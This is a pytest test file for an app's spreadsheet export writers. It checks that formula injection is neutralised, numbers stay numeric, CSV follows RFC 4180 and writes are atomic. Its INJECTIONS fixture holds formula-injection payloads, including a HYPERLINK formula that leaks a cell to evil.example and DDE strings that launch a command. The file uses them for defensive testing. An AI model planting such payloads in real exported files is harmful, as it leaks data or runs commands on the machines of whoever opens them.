"""The spreadsheet-safe writers: every formula-injection case, numbers kept as numbers, RFC 4180 CSV with
a BOM, XLSX string cells that never become formulas, atomic replacement, and files our importer reads."""
from __future__ import annotations

import csv
import io
import math

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from app.core.errors import UnicoError, UsageError
from app.core.exporting import safe_text, write_csv, write_rows, write_table, write_xlsx
from app.core.importing import read_table

INJECTIONS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "nul": "\0=1+1",
}


def _csv_rows(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", list(INJECTIONS))
def test_every_injection_case_is_prefixed_in_csv(tmp_path, name):
    text = INJECTIONS[name]
    path = tmp_path / "out.csv"
    write_csv(path, ["case", "value"], [[name, text]])
    assert _csv_rows(path)[1] == [name, "'" + text]


def test_real_numbers_stay_numbers_and_text_that_looks_numeric_is_kept(tmp_path):
    path = tmp_path / "n.csv"
    rows = [[-12.5, np.int64(-3), np.float64(0.25), True, None, float("nan"), pd.NA, "-12.5", "00184",
             "1234567890123456", "12345"]]
    write_csv(path, list("abcdefghijk"), rows)
    raw = path.read_bytes().decode("utf-8-sig").splitlines()[1]
    # numbers unquoted and unprefixed; text starting with '-' is text and gets the mark
    assert raw == "-12.5,-3,0.25,TRUE,,,,'-12.5,'00184,'1234567890123456,12345"


def test_csv_is_rfc4180_with_bom_and_crlf(tmp_path):
    path = tmp_path / "q.csv"
    write_csv(path, ["name", "note"], [['Nicolò "Nico" D\'Angelo', "a,b\nc"]])
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:] == 'name,note\r\n"Nicolò ""Nico"" D\'Angelo","a,b\nc"\r\n'.encode()
    assert _csv_rows(path)[1] == ['Nicolò "Nico" D\'Angelo', "a,b\nc"]


def test_csv_to_a_stream_has_no_bom(tmp_path):
    buf = io.StringIO()
    assert write_csv(buf, ["x"], [["=1"], [2]], lineterminator="\n") == 2
    assert buf.getvalue() == "x\n'=1\n2\n"


def test_xlsx_text_is_never_a_formula_and_keeps_its_value(tmp_path):
    path = tmp_path / "x.xlsx"
    values = list(INJECTIONS.values())
    write_xlsx(path, ["=header", *[f"c{i}" for i in range(len(values))], "num", "zip"],
               [["h", *values, -12.5, "00184"]], sheet="Report: a/b")
    book = load_workbook(path)
    sheet = book.worksheets[0]
    assert sheet.title == "Report_ a_b"
    header, row = list(sheet.iter_rows())
    assert header[0].value == "=header" and header[0].data_type == "s" and header[0].font.bold
    for cell, text in zip(row[1:-2], values):
        assert cell.data_type == "s", text
        # XLSX cannot hold NUL, and XML reads a CR back as LF; nothing else changes
        assert cell.value == text.replace("\0", "").replace("\r", "\n")
        assert cell.quotePrefix, text
    num, zipcode = row[-2], row[-1]
    assert num.value == -12.5 and num.data_type == "n" and not num.quotePrefix
    assert zipcode.value == "00184" and zipcode.data_type == "s"


def test_xlsx_drops_control_characters_and_caps_length(tmp_path):
    path = tmp_path / "c.xlsx"
    write_xlsx(path, ["a", "b"], [["ok\x01\x1fstill", "x" * 40_000]])
    row = list(load_workbook(path).worksheets[0].iter_rows(values_only=True))[1]
    assert row[0] == "okstill"
    assert len(row[1]) == 32_767 and row[1].endswith("…")


def test_write_table_chooses_the_format_by_extension_and_our_importer_reads_both(tmp_path):
    df = pd.DataFrame({"campaign": ["=HYPERLINK(\"x\")", "Saldi", None], "conversions": [1.5, 2.0, math.nan],
                       "revenue": [55.5, -10.0, 0.0]})
    for name in ("t.csv", "t.xlsx"):
        path = write_table(df, tmp_path / name)
        table = read_table(path)
        rows = [r.values for r in table.records()]
        assert table.headers == ["campaign", "conversions", "revenue"]
        assert [r["revenue"] for r in rows] in (["55.5", "-10.0", "0.0"], ["55.5", "-10", "0"])
        assert rows[0]["campaign"] in ("'=HYPERLINK(\"x\")", "=HYPERLINK(\"x\")")
        assert rows[2]["campaign"] == "" and rows[2]["conversions"] == ""


def test_unknown_extension_is_a_usage_error(tmp_path):
    with pytest.raises(UsageError, match=r"\.csv or \.xlsx"):
        write_rows(tmp_path / "t.ods", ["a"], [[1]])


def test_a_failure_leaves_the_previous_file_untouched(tmp_path):
    path = tmp_path / "keep.csv"
    write_csv(path, ["a"], [[1]])
    before = path.read_bytes()

    def rows():
        yield [2]
        raise RuntimeError("boom")

    for writer in (write_csv, write_xlsx):
        target = path if writer is write_csv else tmp_path / "keep.xlsx"
        with pytest.raises(RuntimeError):
            writer(target, ["a"], rows())
    assert path.read_bytes() == before
    assert not (tmp_path / "keep.xlsx").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.csv"]


def test_unwritable_target_is_a_plain_error(tmp_path):
    with pytest.raises(UnicoError, match="cannot write"):
        write_csv(tmp_path / "missing" / "x.csv", ["a"], [[1]])


def test_safe_text_leaves_numbers_and_plain_text_alone():
    assert safe_text(-5) == -5 and safe_text(3.5) == 3.5 and safe_text(None) is None
    assert safe_text("Mario Rossi") == "Mario Rossi" and safe_text("") == ""
    assert safe_text("-20% saldi") == "'-20% saldi" and safe_text("+39 333 1234567") == "'+39 333 1234567"


def test_reports_save_their_table_through_the_safe_writers(tmp_path):
    from app.core.analytics.report import Report

    report = Report("Contribution: last touch", "Assisted, not caused.",
                    pd.DataFrame({"campaign": ["@promo", "Saldi"], "revenue": [-5.5, 10.0]}))
    report.write(tmp_path / "r.xlsx")
    sheet = load_workbook(tmp_path / "r.xlsx").worksheets[0]
    assert sheet.title == "Contribution_ last touch"
    assert list(sheet.iter_rows(values_only=True)) == [("campaign", "revenue"), ("@promo", -5.5), ("Saldi", 10.0)]
    report.write(tmp_path / "r.csv")
    assert _csv_rows(tmp_path / "r.csv") == [["campaign", "revenue"], ["'@promo", "-5.5"], ["Saldi", "10.0"]]
    buf = io.StringIO()
    report.to_csv(buf)
    assert buf.getvalue() == "campaign,revenue\n'@promo,-5.5\nSaldi,10.0\n"
